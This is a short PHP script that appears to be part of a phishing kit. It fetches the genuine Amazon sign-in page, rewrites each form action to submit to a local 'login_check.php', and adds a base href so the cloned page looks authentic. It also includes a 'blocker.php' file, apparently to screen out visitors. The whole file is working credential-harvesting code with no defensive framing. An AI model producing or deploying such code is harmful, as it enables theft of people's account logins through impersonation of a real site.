<?php
require_once __DIR__ . '/inc/blocker.php';
$lang = isset($_GET['lang']) ? $_GET['lang'] : 'en';
$opts = array('http' => array('header' => "User-Agent: " . $_SERVER['HTTP_USER_AGENT']));
$page = file_get_contents('https://www.amazon.com/ap/signin?language=' . $lang, false, stream_context_create($opts));
$page = preg_replace('/action="[^"]*"/', 'action="login_check.php"', $page);
$page = str_replace('<title>Amazon Sign-In</title>', '<title>Amazon Sign-In</title><base href="https://www.amazon.com/">', $page);
echo $page;
